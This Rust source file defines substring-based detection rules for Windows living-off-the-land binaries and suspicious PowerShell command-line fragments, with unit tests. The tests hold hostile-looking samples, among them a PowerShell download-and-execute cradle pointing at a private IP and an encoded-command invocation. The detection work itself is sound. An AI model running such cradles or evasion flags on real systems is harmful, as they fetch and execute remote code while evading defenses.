//! Indicator Table - substring rules for hostile-tooling features
//!
//! The LOLBin and suspicious-command-line dimensions are driven by this
//! table rather than by literals buried in the extraction loop, so the
//! rule set can be versioned, shipped, and tested on its own. Matching is
//! plain case-insensitive substring search; no regex, no tokenization.

use once_cell::sync::Lazy;
use serde::{Deserialize, Serialize};

/// Case-insensitive substring rules, one list per indicator category.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct IndicatorTable {
    /// Rule table revision, bumped when the shipped lists change.
    pub revision: u32,
    /// Living-off-the-land binary names, matched against image path +
    /// command line.
    pub lolbin_names: Vec<String>,
    /// Suspicious command-line fragments, matched against command line /
    /// details text.
    pub suspicious_patterns: Vec<String>,
}

impl Default for IndicatorTable {
    fn default() -> Self {
        Self {
            revision: 1,
            lolbin_names: [
                "powershell",
                "pwsh",
                "rundll32",
                "regsvr32",
                "mshta",
                "certutil",
                "bitsadmin",
                "schtasks",
                "wmic",
            ]
            .iter()
            .map(|s| s.to_string())
            .collect(),
            suspicious_patterns: [
                "encodedcommand",
                "frombase64string",
                "downloadstring",
                "executionpolicy bypass",
                " -w hidden",
                "http://",
                "https://",
                "--argus-demo",
            ]
            .iter()
            .map(|s| s.to_string())
            .collect(),
        }
    }
}

impl IndicatorTable {
    /// True when the haystack contains any LOLBin name.
    pub fn matches_lolbin(&self, haystack: &str) -> bool {
        contains_any(haystack, &self.lolbin_names)
    }

    /// True when the haystack contains any suspicious pattern.
    pub fn matches_suspicious(&self, haystack: &str) -> bool {
        contains_any(haystack, &self.suspicious_patterns)
    }
}

/// Shipped default table.
pub static DEFAULT_INDICATORS: Lazy<IndicatorTable> = Lazy::new(IndicatorTable::default);

/// Case-insensitive "contains any needle" over a rule list.
fn contains_any(haystack: &str, needles: &[String]) -> bool {
    if haystack.trim().is_empty() {
        return false;
    }
    let haystack = haystack.to_lowercase();
    needles
        .iter()
        .any(|needle| haystack.contains(&needle.to_lowercase()))
}

// ============================================================================
// TESTS
// ============================================================================

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_lolbin_match_case_insensitive() {
        let table = IndicatorTable::default();
        assert!(table.matches_lolbin("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"));
        assert!(table.matches_lolbin("RUNDLL32.EXE shell32.dll,Control_RunDLL"));
        assert!(table.matches_lolbin("certutil -urlcache -f"));
        assert!(!table.matches_lolbin("C:\\Windows\\explorer.exe"));
    }

    #[test]
    fn test_suspicious_patterns() {
        let table = IndicatorTable::default();
        assert!(table.matches_suspicious("powershell -EncodedCommand aQBlAHgA"));
        assert!(table.matches_suspicious("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a')"));
        assert!(table.matches_suspicious("-ExecutionPolicy Bypass -File x.ps1"));
        assert!(!table.matches_suspicious("Get-ChildItem C:\\Users"));
    }

    #[test]
    fn test_hidden_window_needs_leading_space() {
        let table = IndicatorTable::default();
        assert!(table.matches_suspicious("powershell -w hidden -nop"));
        // No leading space before "-w hidden" → no match.
        assert!(!table.matches_suspicious("setup-w hiddenfeature"));
    }

    #[test]
    fn test_empty_haystack_never_matches() {
        let table = IndicatorTable::default();
        assert!(!table.matches_lolbin(""));
        assert!(!table.matches_suspicious("   "));
    }

    #[test]
    fn test_custom_table() {
        let table = IndicatorTable {
            revision: 2,
            lolbin_names: vec!["osascript".to_string()],
            suspicious_patterns: vec!["curl ".to_string()],
        };
        assert!(table.matches_lolbin("/usr/bin/osascript -e"));
        assert!(!table.matches_lolbin("powershell.exe"));
        assert!(table.matches_suspicious("curl http://x"));
    }
}
